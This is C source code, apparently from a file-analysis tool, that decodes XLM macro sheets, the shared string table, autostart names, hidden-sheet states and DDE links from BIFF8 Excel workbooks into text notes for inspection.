    if (cch == 0x0401) {
        b->self = 1;
        return KS_OK;
    }
    if (cch == 0x3A01 || len < 5)
        return KS_OK;
    char path[400];
    int rc = read_chars(r + 5, r + len, cch, r[4] & 1, path, sizeof path);
    if (rc != KS_OK)
        return rc;
    char *sep = strchr(path, 0x03);
    if (sep) {
        *sep = 0;
        b->dde = 1;
        snprintf(b->server, sizeof b->server, "%.127s", path);
        snprintf(b->topic, sizeof b->topic, "%.255s", sep + 1);
    } else {
        snprintf(b->server, sizeof b->server, "%.127s", path);
    }
    return KS_OK;
}

static int add_extname(wb *w, const uint8_t *r, uint16_t len)
{
    if (len < 8 || w->nen >= MAX_EXTNAMES || w->nsb == 0)
        return KS_OK;
    extname *x = &w->en[w->nen++];
    w->sb[w->nsb - 1].next_ext = w->nen;
    return read_chars(r + 8, r + len, r[6], r[7] & 1, x->name, sizeof x->name);
}

static void add_xtis(wb *w, const uint8_t *r, uint16_t len)
{
    if (len < 2)
        return;
    uint16_t c = rd16(r);
    for (uint32_t i = 0; i < c && 2 + 6 * (size_t)i + 6 <= len && w->nxt < MAX_XTI; i++) {
        const uint8_t *x = r + 2 + 6 * (size_t)i;
        w->xt[w->nxt].sb = rd16(x);
        w->xt[w->nxt].first = (int16_t)rd16(x + 2);
        w->nxt++;
    }
}

/* SST cursor over the SST record and its CONTINUE records. */
typedef struct cur {
    const wb *w;
    uint32_t seg;
    size_t pos, end;
} cur;

static int cur_next(cur *c)
{
    if (c->seg + 1 >= c->w->nseg)
        return 0;
    c->seg++;
    c->pos = c->w->sst_segs[c->seg][0];
    c->end = c->pos + c->w->sst_segs[c->seg][1];
    return 1;
}

/* Skip or read m bytes across segment boundaries (no flag byte). */
static int cur_skip(cur *c, size_t m, uint8_t *out)
{
    for (size_t q = 0; q < m; q++) {
        while (c->pos >= c->end)
            if (!cur_next(c))
                return 0;
        if (out)
            out[q] = c->w->d[c->pos];
        c->pos++;
    }
    return 1;
}

static int pool_add(wb *w, const char *s, size_t n)
{
    if (w->pool_n + n + 1 > MAX_SST_BYTES)
        return KS_ELIMIT;
    if (w->pool_n + n + 1 > w->pool_cap) {
        size_t c = w->pool_cap ? w->pool_cap : 4096;
        while (c < w->pool_n + n + 1)
            c *= 2;
        char *p = realloc(w->poolp, c);
        if (!p)
            return KS_ENOMEM;
        w->poolp = p;
        w->pool_cap = c;
    }
    memcpy(w->poolp + w->pool_n, s, n);
    w->poolp[w->pool_n + n] = 0;
    w->pool_n += n + 1;
    return KS_OK;
}

static int parse_sst(wb *w)
{
    if (w->nseg == 0)
        return KS_OK;
    cur c = {w, 0, w->sst_segs[0][0], w->sst_segs[0][0] + w->sst_segs[0][1]};
    uint8_t h[8];
    if (!cur_skip(&c, 8, h))
        return KS_OK;
    uint32_t uniq = rd32(h + 4);
    if (uniq > MAX_SST)
        uniq = MAX_SST;
    w->sst = calloc((size_t)uniq + 1, sizeof *w->sst);
    if (!w->sst)
        return KS_ENOMEM;
    int truncated = 0;
    for (uint32_t k = 0; k < uniq; k++) {
        uint8_t b[4];
        if (!cur_skip(&c, 3, b)) {
            truncated = 1;
            break;
        }
        size_t cch = rd16(b);
        uint8_t fl = b[2];
        uint16_t runs = 0;
        uint32_t ext = 0;
        if (fl & 0x08) {
            if (!cur_skip(&c, 2, b)) {
                truncated = 1;
                break;
            }
            runs = rd16(b);
        }
        if (fl & 0x04) {
            if (!cur_skip(&c, 4, b)) {
                truncated = 1;
                break;
            }
            ext = rd32(b);
        }
        xs s = {0};
        int high = fl & 1, rc = KS_OK;
        size_t got = 0;
        while (got < cch) {
            if (c.pos >= c.end) {   /* characters continue: a new flag byte */
                if (!cur_next(&c) || c.pos >= c.end)
                    break;
                high = c.w->d[c.pos++] & 1;
                continue;
            }
            size_t avail = (c.end - c.pos) / (high ? 2 : 1);
            if (avail == 0) {   /* odd byte left in a UTF-16 segment: malformed */
                c.pos = c.end;
                continue;
            }
            size_t take = cch - got < avail ? cch - got : avail;
            rc = add_chars(&s, w->d + c.pos, take, high);
            if (rc != KS_OK)
                break;
            c.pos += take * (high ? 2 : 1);
            got += take;
        }
        if (rc == KS_OK && got < cch)
            truncated = 1;
        if (rc == KS_OK) {
            uint32_t at = (uint32_t)w->pool_n;
            rc = pool_add(w, s.p ? s.p : "", s.n);
            if (rc == KS_OK)
                w->sst[k] = at + 1;
        }
        xs_free(&s);
        if (rc == KS_ENOMEM)
            return rc;
        if (rc != KS_OK || truncated)
            break;
        w->nsst = k + 1;
        if (!cur_skip(&c, (size_t)runs * 4 + ext, NULL)) {
            if (k + 1 < uniq)
                truncated = 1;
            break;
        }
    }
    if (truncated)
        fmt_note(w->k, "parse-error: xlm: shared string table truncated (%u of %u strings)",
                 (unsigned)w->nsst, (unsigned)uniq);
    return KS_OK;
}

/* ------------------------------------------------------------------ sheets */

static const char *state_text(uint8_t s)
{
    return s == 1 ? "hidden" : s == 2 ? "very hidden" : "visible";
}

static int is_auto_name(const lname *m)
{
    return strncasecmp(m->name, "auto_open", 9) == 0 || strncasecmp(m->name, "auto_close", 10) == 0 ||
           strncasecmp(m->name, "auto_activate", 13) == 0;
}

static int out_add(wb *w, fmt_buf *o, const char *s, size_t n)
{
    return fmt_buf_add(w->k, o, s, n, w->n);
}

static int out_xs(wb *w, fmt_buf *o, xs *line)
{
    int rc = xs_str(line, "\n");
    if (rc != KS_OK)
        return rc;
    return out_add(w, o, line->p, line->n);
}

/* Decode the substream of sheet s into text. Returns KS_OK, KS_ELIMIT (limit reached: keep what
 * is there), or KS_ENOMEM. */
static int walk_sheet(wb *w, const sheet *s, fmt_buf *o)
{
    size_t pos = s->off;
    int depth = 0, rc = KS_OK;
    uint16_t last_rw = 0, last_col = 0;
    w->bad_formula = 0;
    for (uint32_t nrec = 0; rc == KS_OK; nrec++) {
        if (w->budget == 0) {
            fmt_note(w->k, "limit: xlm: records");
            break;
        }
        w->budget--;
        if ((nrec & 0xFFFF) == 0xFFFF && fmt_stopped(w->k))
            return FMT_STOP;
        if (pos + 4 > w->n) {
            fmt_note(w->k, "parse-error: xlm: sheet \"%s\": substream ends without EOF", s->name);
            break;
        }
        uint16_t type = rd16(w->d + pos), len = rd16(w->d + pos + 2);
        if (len > w->n - pos - 4) {
            fmt_note(w->k, "parse-error: xlm: sheet \"%s\": record 0x%04x at %zu truncated",
                     s->name, type, pos);
            break;
        }
        const uint8_t *r = w->d + pos + 4;
        pos += 4 + (size_t)len;
        xs line = {0};
        switch (type) {
        case 0x0809:
            depth++;
            break;
        case 0x000A:
            depth--;
            break;
        case 0x0006:   /* FORMULA */
            if (len < 22)
                break;
            last_rw = rd16(r);
            last_col = rd16(r + 2);
            {
                uint16_t cce = rd16(r + 20);
                int cut = cce > len - 22;
                if (cut)
                    cce = (uint16_t)(len - 22);
                rc = put_cell(&line, last_rw, last_col);
                if (rc == KS_OK)
                    rc = xs_str(&line, " =");
                int r2 = rc == KS_OK ? render(w, r + 22, cce, &line) : rc;
                if (r2 == KS_ENOMEM)
                    rc = r2;
                else if ((r2 != KS_OK || cut) && !w->bad_formula) {
                    w->bad_formula = 1;
                    fmt_note(w->k, "parse-error: xlm: sheet \"%s\": formula at %s not fully "
                                   "decoded", s->name, line.p ? line.p : "");
                }
                if (rc == KS_OK)
                    rc = out_xs(w, o, &line);
            }
            break;
        case 0x0207:   /* STRING: cached result of the preceding FORMULA */
            if (len >= 3) {
                size_t cch = rd16(r);
                int high = r[2] & 1;
                size_t avail = (size_t)(len - 3) / (high ? 2 : 1);
                rc = put_cell(&line, last_rw, last_col);
                if (rc == KS_OK)
                    rc = xs_str(&line, " value ");
                if (rc == KS_OK)
                    rc = quoted(&line, r + 3, cch < avail ? cch : avail, high);
                if (rc == KS_OK)
                    rc = out_xs(w, o, &line);
            }
            break;
        case 0x00FD:   /* LABELSST */
            if (len >= 10) {
                uint32_t isst = rd32(r + 6);
                rc = put_cell(&line, rd16(r), rd16(r + 2));
                if (rc == KS_OK)
                    rc = xs_str(&line, " \"");
                if (rc == KS_OK && isst < w->nsst && w->sst[isst])
                    rc = xs_str(&line, w->poolp + w->sst[isst] - 1);
                else if (rc == KS_OK)
                    rc = xs_fmt(&line, "<sst %u>", (unsigned)isst);
                if (rc == KS_OK)
                    rc = xs_str(&line, "\"");
                if (rc == KS_OK)
                    rc = out_xs(w, o, &line);
            }
            break;
        case 0x0204:   /* LABEL: XLUnicodeString */
            if (len >= 9) {
                size_t cch = rd16(r + 6);
                int high = r[8] & 1;
                size_t avail = (size_t)(len - 9) / (high ? 2 : 1);
                rc = put_cell(&line, rd16(r), rd16(r + 2));
                if (rc == KS_OK)
                    rc = xs_str(&line, " ");
                if (rc == KS_OK)
                    rc = quoted(&line, r + 9, cch < avail ? cch : avail, high);
                if (rc == KS_OK)
                    rc = out_xs(w, o, &line);
            }
            break;
        case 0x0203:   /* NUMBER */
        case 0x027E:   /* RK */
            if ((type == 0x0203 && len >= 14) || (type == 0x027E && len >= 10)) {
                double v;
                if (type == 0x0203) {
                    uint64_t bits = (uint64_t)rd32(r + 6) | (uint64_t)rd32(r + 10) << 32;
                    memcpy(&v, &bits, sizeof v);
                } else {
                    uint32_t rk = rd32(r + 6);
                    if (rk & 2) {
                        v = (double)((int32_t)rk >> 2);
                    } else {
                        uint64_t bits = (uint64_t)(rk & 0xFFFFFFFCu) << 32;
                        memcpy(&v, &bits, sizeof v);
                    }
                    if (rk & 1)
                        v /= 100;
                }
                rc = put_cell(&line, rd16(r), rd16(r + 2));
                if (rc == KS_OK)
                    rc = xs_fmt(&line, " %.15g", v);
                if (rc == KS_OK)
                    rc = out_xs(w, o, &line);
            }
            break;
        default:
            break;
        }
        xs_free(&line);
        if (depth <= 0)
            break;
    }
    return rc;
}

static int sheet_bof_dt(const wb *w, const sheet *s)
{
    if (s->off > w->n || w->n - s->off < 8 || rd16(w->d + s->off) != 0x0809)
        return -1;
    return rd16(w->d + s->off + 6);
}

/* Render a name's formula ("Macro1!$A$1"). */
static int name_target(const wb *w, const lname *m, xs *out)
{
    int rc = render(w, m->rgce, m->cce, out);
    return rc == KS_ENOMEM ? rc : KS_OK;
}

static int do_sheets(wb *w)
{
    int rc = KS_OK;
    /* the auto names, as notes and as header lines of every macro sheet */
    xs autos = {0};
    for (uint32_t i = 0; i < w->nnm && rc == KS_OK; i++) {
        lname *m = &w->nm[i];
        if (!is_auto_name(m))
            continue;
        xs tgt = {0};
        rc = name_target(w, m, &tgt);
        if (rc == KS_OK) {
            fmt_note(w->k, "xlm: %s -> %.200s%s", m->name, tgt.p ? tgt.p : "",
                     (m->flags & 1) ? " (hidden name)" : "");
            rc = xs_fmt(&autos, "' %.60s -> ", m->name);
            if (rc == KS_OK)
                rc = xs_add(&autos, tgt.p ? tgt.p : "", tgt.n);
            if (rc == KS_OK)
                rc = xs_str(&autos, "\n");
        }
        xs_free(&tgt);
    }
    for (uint32_t i = 0; i < w->nsh && rc == KS_OK; i++) {
        if (fmt_stopped(w->k)) {
            rc = FMT_STOP;
            break;
        }
        sheet *s = &w->sh[i];
        int bdt = sheet_bof_dt(w, s);
        int macro = s->dt == 1 || bdt == 0x0040;
        const char *kind = macro ? "macro sheet" : s->dt == 6 ? "VB module" : s->dt == 2 ? "chart"
                                                                                           : "sheet";
        if (macro || s->state != 0)
            fmt_note(w->k, "xlm: %s \"%s\" (%s)", kind, s->name, state_text(s->state));
        if (!macro)
            continue;
        if (bdt < 0) {
            fmt_note(w->k, "parse-error: xlm: sheet \"%s\": no BOF at offset %u%s", s->name,
                     (unsigned)s->off, s->off >= w->n ? " (past the stream)" : "");
            continue;
        }
        int dup = 0;   /* two BOUNDSHEETs at one substream: decoded once */
        for (uint32_t q = 0; q < i && !dup; q++)
            dup = w->sh[q].off == s->off;
        if (dup)
            continue;
        if (w->budget == 0)   /* the record limit was reached (and noted) in an earlier sheet */
            break;
        fmt_buf o = {0};
        xs hdr = {0};
        rc = xs_fmt(&hdr, "' XLM macro sheet \"%.120s\" (%s)\n", s->name, state_text(s->state));
        if (rc == KS_OK)
            rc = out_add(w, &o, hdr.p, hdr.n);
        if (rc == KS_OK && autos.n)
            rc = out_add(w, &o, autos.p, autos.n);
        xs_free(&hdr);
        if (rc == KS_OK)
            rc = walk_sheet(w, s, &o);
        if (rc == KS_OK || rc == KS_ELIMIT) {
            char label[160];
            snprintf(label, sizeof label, "XLM/%s", s->name);
            rc = fmt_emit(w->k, label, s->name, o.p, o.n);
        }
        fmt_buf_free(&o);
    }
    xs_free(&autos);
    return rc;
}

static int do_dde(wb *w)
{
    int no = 0, rc = KS_OK;
    for (uint32_t i = 0; i < w->nsb && rc == KS_OK; i++) {
        const supbook *b = &w->sb[i];
        if (!b->dde)
            continue;
        uint32_t k = b->first_ext;
        do {
            char t[600];
            int l = snprintf(t, sizeof t, "%s|'%s'!%s", b->server, b->topic,
                             k < b->next_ext ? w->en[k].name : "");
            rc = fmt_dde_emit(w->k, &no, t, l < 0 ? 0 : (size_t)l < sizeof t ? (size_t)l : sizeof t - 1);
            k++;
        } while (rc == KS_OK && k < b->next_ext && k - b->first_ext < 256);
    }
    return rc;
}

int fmt_xlm_extract(fmt_sink *k, const uint8_t *d, size_t n)
{
    if (n < 8 || rd16(d) != 0x0809)
        return KS_OK;
    uint16_t vers = rd16(d + 4);
    if (vers != 0x0600) {
        if (vers == 0x0500 || vers == 0x0400)
            fmt_note(k, "xlm: BIFF5/7 workbook: macro sheets not decoded");
        return KS_OK;
    }
    wb *w = calloc(1, sizeof *w);
    if (!w)
        return KS_ENOMEM;
    w->k = k;
    w->d = d;
    w->n = n;
    w->budget = MAX_RECORDS;
    w->sh = calloc(MAX_SHEETS, sizeof *w->sh);
    w->nm = calloc(MAX_NAMES, sizeof *w->nm);
    w->xt = calloc(MAX_XTI, sizeof *w->xt);
    w->sb = calloc(MAX_SUPBOOKS, sizeof *w->sb);
    w->en = calloc(MAX_EXTNAMES, sizeof *w->en);
    int rc = KS_OK;
    if (!w->sh || !w->nm || !w->xt || !w->sb || !w->en) {
        rc = KS_ENOMEM;
        goto out;
    }
    size_t pos = 0;
    int in_sst = 0, encrypted = 0, eof = 0;
    for (uint32_t nrec = 0; nrec < MAX_RECORDS && rc == KS_OK; nrec++) {
        if (pos + 4 > n)
            break;
        uint16_t type = rd16(d + pos), len = rd16(d + pos + 2);
        if (len > n - pos - 4) {
            fmt_note(k, "parse-error: xlm: workbook globals: record 0x%04x at %zu truncated", type,
                     pos);
            break;
        }
        const uint8_t *r = d + pos + 4;
        if (type != 0x003C)
            in_sst = 0;
        switch (type) {
        case 0x0085: rc = add_sheet(w, r, len); break;
        case 0x0018: rc = add_name(w, r, len); break;
        case 0x01AE: rc = add_supbook(w, r, len); break;
        case 0x0023: rc = add_extname(w, r, len); break;
        case 0x0017: add_xtis(w, r, len); break;
        case 0x00FC:
            if (w->nseg == 0) {
                w->sst_segs[0][0] = (uint32_t)(pos + 4);
                w->sst_segs[0][1] = len;
                w->nseg = 1;
                in_sst = 1;
            }
            break;
        case 0x003C:
            if (in_sst && w->nseg < MAX_SST_SEGS) {
                w->sst_segs[w->nseg][0] = (uint32_t)(pos + 4);
                w->sst_segs[w->nseg][1] = len;
                w->nseg++;
            }
            break;
        case 0x002F:
            encrypted = 1;
            break;
        case 0x000A:
            eof = 1;
            break;
        default:
            break;
        }
        pos += 4 + (size_t)len;
        if (encrypted || eof)
            break;
    }
    if (rc != KS_OK)
        goto out;
    if (encrypted) {
        fmt_note(k, "xlm: workbook encrypted (FILEPASS): macro sheets not decoded");
        goto out;
    }
    if (n > UINT32_MAX)   /* sst_segs hold 32-bit offsets */
        w->nseg = 0;
    rc = parse_sst(w);
    if (rc == KS_OK)
        rc = do_sheets(w);
    if (rc == KS_OK)
        rc = do_dde(w);
out:
    free(w->sh);
    free(w->nm);
    free(w->xt);
    free(w->sb);
    free(w->en);
    free(w->sst);
    free(w->poolp);
    free(w);
    return rc;
}

/* ------------------------------------------------------------------ ole2.c hook */

int fmt_office_stream(fmt_sink *k, const char *path, const uint8_t *d, size_t n)
{
    if (strcasecmp(path, "Workbook") == 0 || strcasecmp(path, "Book") == 0)
        return fmt_xlm_extract(k, d, n);
    if (strcasecmp(path, "WordDocument") == 0)
        return fmt_dde_worddoc(k, d, n);
    return KS_OK;
}
